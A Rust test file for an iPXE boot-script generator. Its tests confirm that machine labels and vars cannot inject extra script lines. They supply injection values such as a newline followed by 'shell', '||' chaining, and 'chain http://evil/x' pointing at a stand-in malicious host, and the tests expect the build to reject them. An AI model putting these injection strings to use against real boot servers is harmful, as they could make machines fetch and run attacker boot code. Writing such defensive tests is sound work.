//! Values that would change an iPXE script's meaning: whatever a site's own
//! script template (a role's `script =`, an override of a built-in script)
//! writes is held to the rule kernel arguments follow, and the error points
//! at the value's place as well as the template's.

use crate::harness::Site;

/// The fixture with a role script that writes a label and a var.
fn with_script(label: &str, var: &str) -> Site {
    let s = Site::fixture("basic");
    s.write(
        "templates/ipxe/custom.j2",
        "#!ipxe\necho rack {{ machine.labels.rack }}\necho note {{ vars.note | default(\"-\") }}\nexit\n",
    );
    s.edit(
        "roles/worker.toml",
        "description = \"Worker\"",
        "description = \"Worker\"\nscript = \"ipxe/custom.j2\"",
    );
    s.edit(
        "machines/rack1.toml",
        "labels = { rack = \"r1\" }",
        &format!("labels = {{ rack = {label} }}"),
    );
    s.edit(
        "machines/rack1.toml",
        "vars = { tier = \"silver\" }",
        &format!("vars = {{ tier = \"silver\", note = {var} }}"),
    );
    s
}

#[test]
fn a_var_cannot_add_a_line_to_a_role_script() {
    // (A label cannot even hold a newline: labels refuse control characters.)
    let s = with_script(r#""r1""#, r#""fine\nshell""#);
    let r = s.build();
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(!s.path("public").exists(), "a failed build writes nothing");
    let errors = r.errors();
    assert!(
        errors.contains("--> templates/ipxe/custom.j2:3:"),
        "the template's place: {errors}"
    );
    assert!(
        errors.contains("machines/rack1.toml:15:"),
        "the value's place: {errors}"
    );
    insta::assert_snapshot!(errors);
}

#[test]
fn a_var_cannot_chain_a_command_or_expand_a_setting() {
    for (var, why) in [
        (r#""x || shell""#, "it is `||`"),
        (r#""${net0/ip}""#, "`${`"),
        (r##""#comment""##, "starts with `#`"),
    ] {
        let s = with_script(r#""r1""#, var);
        let r = s.build();
        assert_eq!(r.code, 1, "{var}: {}", r.stderr);
        assert!(r.stderr.contains(why), "{var}: {}", r.stderr);
        assert!(
            r.stderr.contains("machines/rack1.toml:15:"),
            "{var}: {}",
            r.stderr
        );
    }
}

#[test]
fn safe_values_and_semicolons_inside_words_are_written() {
    let s = with_script(r#""r1""#, r#""a b;c""#);
    let r = s.build();
    assert_eq!(r.code, 0, "{}", r.stderr);
    let script = s.read("public/http/machines/52-54-00-aa-bb-02.ipxe");
    assert!(script.contains("echo note a b;c\n"), "{script}");
}

#[test]
fn an_override_of_a_built_in_script_is_checked_too() {
    let s = Site::fixture("basic");
    s.write(
        "templates/machine.ipxe.j2",
        "#!ipxe\necho {{ vars.tier | default(\"-\") }}\nexit\n",
    );
    s.edit(
        "machines/rack1.toml",
        "tier = \"silver\"",
        "tier = \"silver\\nchain http://evil/x\"",
    );
    let r = s.build();
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("--> templates/machine.ipxe.j2:2:"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("U+000A"), "{}", r.stderr);
    insta::assert_snapshot!(r.errors());
}

#[test]
fn per_machine_files_keep_any_text() {
    // A cloud-init file is no script: newlines and `||` are fine there.
    let s = Site::fixture("basic");
    s.edit(
        "templates/cloud-init.yaml.j2",
        "#cloud-config",
        "#cloud-config\nruncmd: [\"{{ vars.cmd }}\"]",
    );
    s.edit(
        "machines/rack1.toml",
        "tier = \"silver\"",
        "tier = \"silver\", cmd = \"a || b\\n\"",
    );
    s.edit(
        "roles/worker.toml",
        "kernel-args",
        "vars = { cmd = \"true || false\" }\nkernel-args",
    );
    let r = s.build();
    assert_eq!(r.code, 0, "{}", r.stderr);
}

/// Turning escaping off, or writing the value from an included template
/// with another name, does not switch the check off.
#[test]
fn autoescape_false_and_includes_are_checked_too() {
    for script in [
        "#!ipxe\n{% autoescape false %}echo {{ machine.labels.rack }}{% endautoescape %}\nexit\n",
        "#!ipxe\n{% include \"ipxe/echo.j2\" %}\nexit\n",
    ] {
        let s = with_script(
            r#""r1 ; chain http://127.0.0.1:1/evil.ipxe ;""#,
            r#""fine""#,
        );
        s.write("templates/ipxe/custom.j2", script);
        s.write("templates/ipxe/echo.j2", "echo {{ machine.labels.rack }}");
        let r = s.build();
        assert_eq!(r.code, 1, "{script}: {}", r.stderr);
        assert!(r.stderr.contains("it is `;`"), "{script}: {}", r.stderr);
        assert!(!s.path("public").exists());
    }
}
